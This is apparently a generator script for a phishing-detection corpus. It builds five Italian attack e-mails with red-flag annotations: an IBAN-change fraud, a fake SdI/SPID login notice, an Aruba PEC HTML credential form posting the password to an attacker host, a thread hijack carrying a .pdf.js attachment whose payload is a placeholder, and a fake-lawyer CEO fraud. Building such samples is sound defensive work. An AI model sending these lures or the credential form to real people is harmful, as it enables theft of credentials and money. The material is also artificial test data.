"""Attack messages, Italian (17-21)."""
from common import *
import threads

F = "attack"


@message(F, "it", "ferretti-variazione-iban-lookalike",
         "Carrier bank-detail change: 'Chiara Colombo, Ferretti Trasporti' from look-alike ferretti-trasporti.com (real: .it) asks the Verona accountant to pay one real and one invented invoice to a new Banca Sella account; PDF letter",
         "Look-alike .com domain on a Hetzner VPS (the real carrier mails from Aruba with ferretti-trasporti.it), 'treasury reorganisation' pretext, "
         "confirmation requested only by e-mail reply, new IBAN at a different bank than on all invoices (Banco BPM). Compare business/17.")
def a17():
    r = rng("a17")
    t = timez.local("de", 2026, 10, 28, 11, 5, 44)
    rcpt = "francesca.conti@examplegroup.eu"
    frm_addr = "c.colombo@ferretti-trasporti.com"
    s = infra.postfix_auth(r, t, rcpt, "mail.ferretti-trasporti.com", "static.41.208.21.65.clients.your-server.de", "65.21.208.41",
                           "mail.ferretti-trasporti.com", "5.181.234.73", frm_addr, client_helo="DESKTOP-QH1T2MA")
    iban = fmt_iban(BANK["ferretti_fraud"])
    body = f"""Gentile dott.ssa Conti,

con la presente Vi comunichiamo che, a seguito della riorganizzazione dei servizi di tesoreria del nostro gruppo, a partire dal 1° novembre 2026 il conto corrente intestato a Ferretti Trasporti S.p.A. presso Banco BPM non sarà più utilizzato per gli incassi.

Vi preghiamo pertanto di effettuare tutti i pagamenti, comprese le fatture in scadenza n. 2026/1187 e n. 2026/1203 (totale € 14.380,00), esclusivamente sul nuovo conto:

Intestatario: Ferretti Trasporti S.p.A.
Banca: Banca Sella S.p.A.
IBAN: {iban}
BIC: SELBIT2BXXX

In allegato trova la lettera ufficiale firmata dal nostro amministratore delegato.

Per ragioni di sicurezza Vi chiediamo di confermarci per iscritto l'avvenuta variazione nella Vostra anagrafica fornitori rispondendo a questa e-mail.

Restiamo a disposizione per qualsiasi chiarimento.

Cordiali saluti

Chiara Colombo
Ufficio Amministrazione e Traffico
Ferretti Trasporti S.p.A.
Via dell'Industria 45 - 37135 Verona
Tel. +39 045 820 4417
"""
    letter = pdf_doc([
        ("h1", "Ferretti Trasporti S.p.A."),
        ("small", "Via dell'Industria 45 · 37135 Verona · P.IVA " + ids.it_piva("0291847023")),
        ("gap", ""),
        ("p", "Spett.le Example Italia S.r.l.\nAlla c.a. Ufficio Amministrazione"),
        ("p", "Verona, 27 ottobre 2026"),
        ("h2", "Oggetto: comunicazione variazione coordinate bancarie"),
        ("p", "Con la presente si comunica che, con decorrenza 1° novembre 2026, tutti i pagamenti a favore di Ferretti Trasporti S.p.A. "
              "dovranno essere effettuati esclusivamente sulle seguenti coordinate:"),
        ("mono", f"Banca Sella S.p.A.\nIBAN {iban}\nBIC SELBIT2BXXX"),
        ("p", "Le precedenti coordinate non sono più valide. Distinti saluti."),
        ("p", "L'Amministratore Delegato\nDott. Giancarlo Ferretti"),
    ], title="Variazione IBAN", creator="Microsoft® Word 2019", producer="Microsoft® Word 2019", date="D:20261027183102+01'00'")
    root = Multi("mixed", [Text(body, "plain", "iso-8859-15", "quoted-printable"),
                           Attach(letter, "application/pdf", "Comunicazione_variazione_coordinate_bancarie.pdf")],
                 infra.outlook_boundary(r, t, 0))
    hdr = [rp(frm_addr)] + s["trace"] + outlook_desktop_headers(
        r, s, A("Chiara Colombo", frm_addr), A("Francesca Conti", rcpt),
        SUBJ("Comunicazione variazione coordinate bancarie - Ferretti Trasporti S.p.A.", "iso-8859-15", "Q"),
        "ferretti-trasporti.com", lang="it")
    return hdr, root


@message(F, "it", "sdi-fattura-scartata-spid-phish",
         "Credential phishing: 'Agenzia delle Entrate – Sistema di Interscambio' claims an e-invoice was rejected (error 00404) and asks to log in with SPID/CIE within 5 days; sent through Amazon SES",
         "SdI notifications go to the transmitting channel (PEC/intermediary), not as marketing-style e-mail from a look-alike domain via SES; "
         "link leads to a fake SPID page on an unrelated host; sanction threat and deadline.")
def a18():
    r = rng("a18")
    t = timez.local("de", 2026, 11, 16, 7, 30, 18)
    rcpt = "francesca.conti@examplegroup.eu"
    frm_addr = "notifiche@sdi-agenziaentrate-fatture.it"
    s = infra.ses(r, t, rcpt, tz="de")
    link = "https://spid-accesso.fatture-corrispettivi.info/login?ente=AdE&r=SDI-00404-88127133"
    plain = f"""Agenzia delle Entrate – Fatture e Corrispettivi
Notifica di scarto – Sistema di Interscambio

Identificativo SdI: 88127133
Fattura n. 2026/FE/00871 del 12/11/2026
Cedente/prestatore: EXAMPLE ITALIA S.R.L.
Codice errore: 00404 – Fattura duplicata

Gentile contribuente,

la fattura elettronica indicata è stata scartata dal Sistema di Interscambio e pertanto si considera non emessa.

Ai sensi dell'art. 6 del D.Lgs. 471/1997 la mancata emissione comporta l'applicazione di sanzioni. Per evitarle è necessario verificare i dati e ritrasmettere il documento entro 5 giorni dalla presente notifica.

Per visualizzare il dettaglio dello scarto acceda all'area riservata con SPID, CIE o CNS:
{link}

Questo messaggio è generato automaticamente, si prega di non rispondere.
"""
    html = html_wrap(f"""<div style="font-family:Titillium Web,Arial,sans-serif;max-width:640px">
<div style="background:#0066cc;color:#fff;padding:14px 18px;font-size:17px">Agenzia delle Entrate &ndash; Fatture e Corrispettivi</div>
<div style="padding:18px;border:1px solid #dde3ea">
<h3 style="color:#c0392b;margin-top:0">Notifica di scarto &ndash; Sistema di Interscambio</h3>
<table style="font-size:14px"><tr><td>Identificativo SdI</td><td><b>88127133</b></td></tr>
<tr><td>Fattura</td><td>n. 2026/FE/00871 del 12/11/2026</td></tr>
<tr><td>Cedente/prestatore</td><td>EXAMPLE ITALIA S.R.L.</td></tr>
<tr><td>Codice errore</td><td>00404 &ndash; Fattura duplicata</td></tr></table>
<p>Gentile contribuente,</p>
<p>la fattura elettronica indicata &egrave; stata scartata dal Sistema di Interscambio e pertanto si considera non emessa.</p>
<p>Ai sensi dell'art. 6 del D.Lgs. 471/1997 la mancata emissione comporta l'applicazione di sanzioni. Per evitarle &egrave; necessario verificare i dati e ritrasmettere il documento <b>entro 5 giorni</b> dalla presente notifica.</p>
<p style="text-align:center"><a href="{link}" style="background:#0066cc;color:#fff;padding:10px 20px;text-decoration:none">Entra con SPID / CIE</a></p>
<p style="font-size:12px;color:#666">Questo messaggio &egrave; generato automaticamente, si prega di non rispondere.</p>
</div></div>""", "it", charset="windows-1252")
    root = Multi("alternative", [Text(plain, "plain", "windows-1252", "quoted-printable"), Text(html, "html", "windows-1252", "quoted-printable")], s["bnd"]())
    hdr = [rp(f"0102019{rstr(r, HEX, 9)}-{rstr(r, HEX, 8)}-000000@eu-west-1.amazonses.com")] + s["trace"] + H(
        ("From", A("Agenzia delle Entrate - Fatture e Corrispettivi", frm_addr)),
        ("To", rcpt),
        ("Subject", SUBJ("Notifica di scarto fattura n. 2026/FE/00871 – Sistema di Interscambio", "windows-1252", "Q")),
        ("Date", s["date"]),
        ("Message-ID", s["mid"]),
    ) + s["xh"]
    return hdr, root


@message(F, "it", "aruba-pec-casella-piena-html",
         "HTML-attachment phishing: 'Aruba PEC' says the certified mailbox is 98% full; the attached .html is a Webmail PEC login form (pre-filled with the victim's address) posting to an attacker host; from a compromised cPanel account",
         "Credential form delivered as a local HTML file (bypasses URL reputation), form action to pec-webmail-aruba.support (not aruba.it), sender "
         "is an authenticated account on an unrelated cPanel server, PEC quota pretext.")
def a19():
    r = rng("a19")
    t = timez.local("de", 2026, 10, 22, 12, 10, 9)
    rcpt = "alessandro.ricci@example.com"
    frm_addr = "info@agriturismo-colledoro.it"
    s = infra.cpanel_exim(r, t, rcpt, "srv48.hostingitalia-cloud.it", "89.46.106.48", frm_addr, "41.216.188.22", tz="de")
    form = f"""<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Webmail PEC - Aruba.it</title>
<style>body{{font-family:Arial,sans-serif;background:#f2f4f7}}.c{{width:360px;margin:70px auto;background:#fff;padding:26px;border-top:4px solid #e2001a}}
input{{width:100%;padding:8px;margin:6px 0 14px;border:1px solid #bbb}}button{{background:#e2001a;color:#fff;border:0;padding:10px;width:100%}}</style></head>
<body><div class="c"><h2 style="color:#e2001a">Aruba PEC</h2>
<p style="font-size:13px">Spazio casella utilizzato: <b>98%</b>. Accedi per confermare l'ampliamento gratuito dello spazio.</p>
<form method="post" action="https://pec-webmail-aruba.support/auth/verify.php">
<label>Indirizzo PEC</label><input name="user" value="example.italia@pec.it">
<label>Password</label><input name="pass" type="password">
<button type="submit">Accedi</button></form>
<p style="font-size:11px;color:#777">Aruba S.p.A. &ndash; P.IVA 01573850516</p></div></body></html>
"""
    plain = """Gentile Cliente,

la casella di Posta Elettronica Certificata associata al Suo dominio ha raggiunto il 98% dello spazio disponibile.

Al raggiungimento del 100% i nuovi messaggi PEC verranno respinti al mittente: ricevute di consegna, notifiche del Sistema di Interscambio e comunicazioni della Pubblica Amministrazione non potranno essere recapitate.

Per attivare l'ampliamento gratuito dello spazio apra il modulo allegato e acceda con le credenziali della casella PEC.

Cordiali saluti,
Aruba PEC – Servizio Clienti
"""
    root = Multi("mixed", [Text(plain, "plain", "utf-8", "8bit"),
                           Attach(form.encode("utf-8"), 'text/html; charset="utf-8"', "Aruba_PEC_ampliamento_spazio.html")],
                 phpmailer_boundary(r))
    hdr = [rp(frm_addr)] + s["trace"] + H(
        ("Date", s["date"]),
        ("To", rcpt),
        ("From", A("Aruba PEC", frm_addr)),
        ("Subject", SUBJ("Avviso: la tua casella PEC ha raggiunto il 98% dello spazio disponibile", "utf-8", "B")),
        ("Message-ID", phpmailer_mid(r, "agriturismo-colledoro.it")),
        ("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)"),
    ) + s["xh"]
    return hdr, root


@message(F, "it", "thread-hijack-ferretti-zip-js",
         "Thread hijack from the genuinely compromised mailbox of Chiara Colombo (real Aruba infrastructure): reply in the real CMR/DDT thread with a ZipCrypto-encrypted ZIP (password in the text) containing a .pdf.js file",
         "Real sender and real thread, but the carrier already sent the signed CMR as plain PDFs (business/18); now a short generic text, a "
         "password-protected archive and a JavaScript file disguised as PDF - the Qakbot/DarkGate hijack pattern.")
def a20():
    r = rng("a20")
    t = timez.local("de", 2026, 11, 24, 9, 44, 12)
    rcpt = "alessandro.ricci@example.com"
    frm_addr = "c.colombo@ferretti-trasporti.it"
    s = infra.aruba(r, t, rcpt, "79.110.62.18", pc_name="DESKTOP-FT04")
    pw = "8826"
    quoted = """Da: Chiara Colombo <c.colombo@ferretti-trasporti.it>
Inviato: martedì 3 novembre 2026 10:05
A: Alessandro Ricci <alessandro.ricci@example.com>
Oggetto: R: CMR e DDT viaggio 26/1043 Würzburg – Verona

Buongiorno Alessandro,
in allegato CMR firmato e DDT del viaggio 26/1043 (scarico 02/11 ore 14:30, nessuna riserva).
Cordiali saluti
Chiara Colombo"""
    body = f"""Buongiorno,

in allegato i documenti aggiornati richiesti.
Password per l'apertura: {pw}

Cordiali saluti

Chiara Colombo
Ferretti Trasporti S.p.A.

{quoted}
"""
    z = zip_att([("CMR_DDT_26-1043_aggiornato.pdf.js", PLACEHOLDER, (2026, 11, 24, 9, 30, 2))],
                "Documenti_26-1043.zip", password=pw, seed="a20", name_style="encoded-word")
    root = Multi("mixed", [Text(body, "plain", "windows-1252", "quoted-printable"), z], infra.outlook_boundary(r, t, 0))
    hdr = [rp(frm_addr)] + s["trace"] + outlook_desktop_headers(
        r, s, A("Chiara Colombo", frm_addr), A("Alessandro Ricci", rcpt),
        SUBJ("R: CMR e DDT viaggio 26/1043 Würzburg – Verona", "windows-1252", "Q"), "ferretti-trasporti.it",
        irt=threads.CMR_REPLY, refs=f"{threads.CMR_REQ} {threads.CMR_REPLY}", lang="it")
    return hdr, root


@message(F, "it", "falso-avvocato-acquisizione-riservata",
         "Fake lawyer / CEO fraud: 'Avv. Marco De Santis' claims to act for Dr. Böhm in a confidential acquisition and asks the Verona accountant for an 86,400 EUR escrow deposit today, without telling colleagues",
         "Unknown law firm on a freshly registered domain (studiolegale-desantis.com, Contabo VPS), invokes the CEO's authority, "
         "confidentiality 'under market-abuse rules' to prevent verification, same-day transfer, contact only by e-mail: lawyer-variant CEO fraud.")
def a21():
    r = rng("a21")
    t = timez.local("de", 2026, 11, 27, 10, 15, 3)
    rcpt = "francesca.conti@examplegroup.eu"
    frm_addr = "m.desantis@studiolegale-desantis.com"
    s = infra.postfix_auth(r, t, rcpt, "mail.studiolegale-desantis.com", "vmi1840261.contaboserver.net", "62.171.168.91",
                           "mail.studiolegale-desantis.com", "31.40.212.154", frm_addr)
    body = """Gentile Dott.ssa Conti,

sono l'Avv. Marco De Santis dello Studio Legale De Santis & Associati di Milano. Assisto Example Group GmbH, su incarico diretto del Dr. Matthias Böhm, in un'operazione di acquisizione di partecipazioni in una società italiana del settore vetro.

L'operazione è coperta da un accordo di riservatezza fino all'annuncio ufficiale, previsto per il 30 novembre. Il Dr. Böhm mi ha indicato Lei come referente amministrativa per la parte italiana.

Entro oggi è necessario effettuare un primo versamento a titolo di deposito fiduciario (escrow) pari a EUR 86.400,00. Le trasmetterò gli estremi del conto vincolato non appena mi avrà confermato la Sua disponibilità.

Le chiedo la massima discrezione: in base alla normativa sugli abusi di mercato, fino alla comunicazione ufficiale non potrà parlarne con colleghi né con la sede di Würzburg. Il Dr. Böhm è in riunione tutto il giorno e mi ha pregato di coordinare direttamente con Lei; La contatterà personalmente dopo la firma.

Attendo un Suo cortese riscontro via e-mail.

Cordiali saluti

Avv. Marco De Santis
Studio Legale De Santis & Associati
Corso Venezia 37 – 20121 Milano
"""
    body = body.replace("–", "-")
    root = Text(body, "plain", "iso-8859-1", "8bit")
    hdr = [rp(frm_addr)] + s["trace"] + H(
        ("Message-ID", tb_mid(r, "studiolegale-desantis.com")),
        ("Date", s["date"]),
        ("MIME-Version", "1.0"),
        ("User-Agent", "Mozilla Thunderbird"),
        ("Content-Language", "it"),
        ("To", A("Francesca Conti", rcpt)),
        ("From", A("Avv. Marco De Santis", frm_addr)),
        ("Subject", "Riservato - operazione Example Group / incarico Dr. Boehm"),
    )
    return hdr, root
